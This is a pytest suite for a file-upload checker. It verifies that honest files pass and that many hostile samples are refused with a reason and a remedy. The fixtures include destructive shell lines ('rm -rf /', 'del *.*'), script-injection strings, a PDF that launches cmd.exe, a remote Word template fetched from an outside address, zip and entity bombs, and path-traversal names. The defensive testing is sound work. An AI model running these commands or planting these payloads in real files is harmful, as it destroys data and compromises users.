"""A file is kept only when it is what its name says and nothing besides."""

import io
import time

import pytest
from django.core.files.uploadedfile import TemporaryUploadedFile

from anning.kernel.errors import Refused
from anning.ui.attachments import kinds, media
from tests.hostile import files as hostile
from tests.ui.attachments import files

HONEST = {
    "现场.jpg": files.jpeg(),
    "现场.JPEG": files.jpeg(),
    "手机动态.jpg": files.motion_photo(),
    "截图.png": files.png(),
    "批复.pdf": files.pdf(),
    "预案.docx": files.word(),
    "清单.xlsx": files.table(),
    "照片.zip": files.archive(),
    "记录.txt": files.text(),
    "空白说明.txt": "﻿说明".encode("utf-16"),
    "现场.mp4": files.mp4(),
    "录音.mp3": files.mp3(),
}
HOSTILE = {
    "an empty file": ("空.txt", b"", "空的"),
    "noise": ("噪声.pdf", hostile.noise(), "不符"),
    "a program": ("工具.exe", files.PROGRAM, "程序"),
    "a program with a harmless name": ("工具.jpg", files.PROGRAM, "程序"),
    "a script": ("清理.bat", b"del *.*", "程序"),
    "a shell script as text": ("说明.txt", b"#!/bin/sh\nrm -rf /", "程序"),
    "a page as text": ("说明.txt", b"  <html><script>alert(1)</script>", "网页"),
    "a drawing with script": ("图.svg", b"<svg onload='alert(1)'/>", "程序"),
    "an unknown ending": ("数据.dat", b"abc", "不接收"),
    "no ending": ("无后缀", b"abc", "不接收"),
    "old Word": ("预案.doc", files.OLD_WORD, "不接收"),
    "old Word renamed": ("预案.docx", files.OLD_WORD, "不符"),
    "a picture renamed": ("清单.xlsx", files.png(), "不符"),
    "a table renamed": ("预案.docx", files.table(), "不符"),
    "some zip as a table": ("清单.xlsx", hostile.zip_of_something_else(), "不符"),
    "binary as text": ("说明.txt", bytes(range(256)), "不是文本"),
    "a macro": ("清单.xlsx", hostile.with_macro(), "宏"),
    "a macro by its ending": ("清单.xlsm", hostile.with_macro(), "不接收"),
    "a control": ("预案.docx", files.with_part(files.word(), "word/activeX/activeX1.bin", b"x"), "宏"),
    "entities that unfold": ("清单.xlsx", hostile.entity_bomb(), "外部"),
    "an entity of the server": ("清单.xlsx", hostile.outside_entity(), "外部"),
    "a template from elsewhere": (
        "预案.docx",
        files.with_part(
            files.word(),
            "word/_rels/settings.xml.rels",
            b'<Relationships><Relationship Id="r1" Type="http://x/attachedTemplate" Target="http://203.0.113.1/a.dotm"'
            b' TargetMode="External"/></Relationships>',
        ),
        "外部",
    ),
    "a bomb": ("清单.xlsx", hostile.zip_bomb(), "过大"),
    "a bomb that lies": ("资料.zip", files.lying_bomb(), "过大"),
    "a table cut off": ("清单.xlsx", hostile.cut_off(), "损坏"),
    "a zip with a program": ("资料.zip", files.archive({"装/工具.exe": files.PROGRAM}), "工具.exe"),
    "a zip with a hidden program": ("资料.zip", files.archive({"一.jpg": files.PROGRAM}), "一.jpg"),
    "a zip with a page": ("资料.zip", files.archive({"登录.html": b"<form>"}), "登录.html"),
    "a zip in a zip": ("资料.zip", files.archive({"内.zip": files.archive()}), "还有压缩包"),
    "a renamed zip in a zip": ("资料.zip", files.archive({"内.jpg": files.archive()}), "还有压缩包"),
    "a macro in a zip": ("资料.zip", files.archive({"清单.xlsx": hostile.with_macro()}), "宏"),
    "a path that leads outside": ("资料.zip", files.archive({"../../etc/cron.d/a.txt": b"x"}), "之外"),
    "a link in a zip": ("资料.zip", files.link_in_archive(), "之外"),
    "a locked zip": ("资料.zip", files.locked_archive(), "密码"),
    "a PDF with a script": ("批复.pdf", files.pdf(b"1 0 obj <</OpenAction <</S /JavaScript /JS (a)>>>>"), "脚本"),
    "a PDF with a disguised script": ("批复.pdf", files.pdf(b"<</S /J#61vaScript>>"), "脚本"),
    "a PDF that launches": ("批复.pdf", files.pdf(b"<</S /Launch /F (cmd.exe)>>"), "脚本"),
    "a PDF with files": ("批复.pdf", files.pdf(b"<</EmbeddedFiles 3 0 R>>"), "脚本"),
    "a PDF cut off": ("批复.pdf", files.pdf()[:20], "不完整"),
    "a picture and a zip": ("现场.jpg", files.jpeg() + files.archive(), "夹带"),
    "a picture and a page": ("现场.jpg", files.jpeg() + b"<ScRiPt>alert(1)</script>", "夹带"),
    "a PDF and a zip": ("批复.pdf", files.pdf() + files.archive(), "夹带"),
    "a film and an archive": ("现场.mp4", files.mp4() + b"Rar!\x1a\x07\x00", "夹带"),
    "a screenshot that goes on": ("截图.png", files.png() + b"what was cut away", "还带有"),
    "a screenshot cut off": ("截图.png", files.png()[:200], "损坏"),
    "a photograph cut off": ("现场.jpg", files.jpeg()[:-2], "不完整"),
    "a photograph that is none": ("现场.jpg", b"\xff\xd8\xff" + bytes(400), "损坏"),
    "a picture of gigapixels": ("大图.png", files.huge_picture(), "尺寸过大"),
    "a film cut off": ("现场.mp4", files.mp4()[:-20], "不完整"),
    "a film without a film": ("现场.mp4", b"\0\0\0\x0cftypisom", "不完整"),
    "sound that is none": ("录音.mp3", b"ID3\x04\0\0\0\0\0\x0a" + bytes(500), "不完整"),
    "a classified name": ("机密-防汛.txt", b"abc", "国家秘密"),
    "a classified text": ("说明.txt", "机密★10年\n关于…".encode(), "国家秘密"),
    "a classified document": ("说明.docx", files.word("机密★10年", "关于印发…"), "国家秘密"),
}


@pytest.mark.parametrize("name", HONEST)
def test_an_honest_file_is_taken(name):
    checked = kinds.check(name, io.BytesIO(HONEST[name]))

    assert checked.name == name
    assert checked.type.media_type


@pytest.mark.parametrize("what", HOSTILE)
def test_a_hostile_file_is_refused_saying_why_and_what_to_do(what):
    name, content, why = HOSTILE[what]
    began = time.monotonic()

    with pytest.raises(Refused) as refused:
        kinds.check(name, io.BytesIO(content))

    assert why in refused.value.message
    assert refused.value.remedy
    assert time.monotonic() - began < 5


def test_a_large_file_on_the_disk_is_looked_into_without_reading_it_all():
    content = files.mp4()[:-264] + (30 * 1024 * 1024 + 8).to_bytes(4) + b"mdat" + bytes(30 * 1024 * 1024)
    with TemporaryUploadedFile("现场.mp4", "video/mp4", len(content), None) as file:
        file.write(content)
        file.flush()

        assert kinds.check("现场.mp4", file).type.kind == "video"


@pytest.mark.parametrize(
    ("name", "kept"),
    [
        ("../../etc/passwd.txt", "passwd.txt"),
        ("C:\\照片\\一.jpg", "一.jpg"),
        ("报告\u202efdp.txt", "报告fdp.txt"),
        ("一\x00二.jpg", "一二.jpg"),
        ("问?号:.pdf", "问_号_.pdf"),
        (" .隐藏.txt", "隐藏.txt"),
        ("长" * 300 + ".docx", "长" * 115 + ".docx"),
    ],
)
def test_a_name_is_tidied(name, kept):
    assert kinds.tidied(name) == kept


def test_a_small_picture_is_upright_small_and_without_place_and_time():
    from PIL import Image

    exif = Image.Exif()
    exif[0x0112], exif[0x0110] = 6, "Telephone"  # turned by a quarter; the camera's name
    drawn = media.small_picture(io.BytesIO(files.picture("JPEG", (4000, 2000), exif=exif)))

    assert drawn is not None
    with Image.open(io.BytesIO(drawn)) as small:
        assert (small.width, small.height) == (120, 240)
        assert not small.getexif()


def test_what_costs_much_to_draw_gets_no_small_picture():
    assert media.small_picture(io.BytesIO(files.picture("PNG", (5000, 4000)))) is None
    assert media.small_picture(io.BytesIO(files.picture("JPEG", (5000, 4000), progressive=True))) is None
